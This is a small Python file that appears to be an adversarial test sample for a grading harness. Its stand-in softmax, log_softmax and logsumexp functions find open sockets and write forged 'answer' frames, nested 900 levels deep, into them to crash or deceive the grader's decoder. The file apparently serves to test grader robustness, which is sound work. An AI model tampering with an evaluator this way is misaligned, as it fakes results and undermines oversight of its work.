"""A frame of 900 lists inside each other, for what compares and writes it recursively.

A correct grader: refuses it when it is decoded.
Expect: crash
"""

import os
import socket
import stat
import struct


def wires():
    """Find every descriptor that is a socket: one of them is the wire."""
    found = []
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def forge(*frames):
    """Send bytes to the grader as if they were answers."""
    for body in frames:
        for number in wires():
            os.write(number, struct.pack(">I", len(body)) + body)


def softmax(*arguments, **named):
    forge(b"\x93\xa2ok" + b"\x91" * 900 + b"\xc0\x90")


log_softmax = logsumexp = softmax
